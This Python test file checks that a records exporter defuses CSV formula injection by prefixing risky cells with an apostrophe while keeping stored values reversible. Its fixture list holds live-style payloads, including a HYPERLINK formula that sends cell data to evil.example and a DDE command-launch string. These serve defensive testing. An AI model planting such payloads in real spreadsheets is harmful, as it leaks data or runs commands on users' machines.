"""CSV formula injection in the records export (issue 15; OWASP "CSV Injection"): a cell that
starts with =, +, -, @, a tab or a carriage return is written with a leading apostrophe, so a
spreadsheet shows it as text; the store keeps the exact value and re-importing the export
gives it back."""

from __future__ import annotations

import csv

from trialsynth.io.records.export import escape_cell, export_store, unescape_cell
from trialsynth.io.records.parsers import parse_csv
from trialsynth.io.records.store import NewRecord, open_store

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "A plain title",
]


def test_escape_cell_follows_owasp_and_is_reversible():
    assert escape_cell("=1+1") == "'=1+1"
    assert escape_cell("+1") == "'+1"
    assert escape_cell("-1") == "'-1"
    assert escape_cell("@x") == "'@x"
    assert escape_cell("\tx") == "'\tx"
    assert escape_cell("\rx") == "'\rx"
    assert escape_cell("'x") == "''x"
    assert escape_cell("Plain") == "Plain"
    for value in HOSTILE:
        assert unescape_cell(escape_cell(value)) == value


def test_records_export_neutralises_formula_titles_and_store_keeps_them(tmp_path):
    records = [
        NewRecord(line=i + 1, raw=f"TI  - {t}\nER  - \n", fields={"TI": [t]}, title=t)
        for i, t in enumerate(HOSTILE)
    ]
    with open_store(tmp_path) as store:
        store.add_import(
            file_name="hostile.ris", sha256="0" * 64, format="ris", database="Embase", records=records
        )
        assert [r.title for r in store.records()] == HOSTILE  # stored exactly
        export_store(store, tmp_path)
    path = tmp_path / "records" / "records.csv"
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    titles = [r["title"] for r in rows]
    # No cell a spreadsheet would run: each hostile title now starts with an apostrophe.
    assert all(not t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in titles)
    assert titles[:7] == ["'" + t for t in HOSTILE[:7]]
    assert titles[7] == "A plain title"
    # Importing the export again gives the exact titles back.
    parsed = parse_csv(path.read_bytes().decode("utf-8"), "records.csv")
    assert not parsed.skipped
    assert [r.title.strip() for r in parsed.records] == [t.strip() for t in HOSTILE]
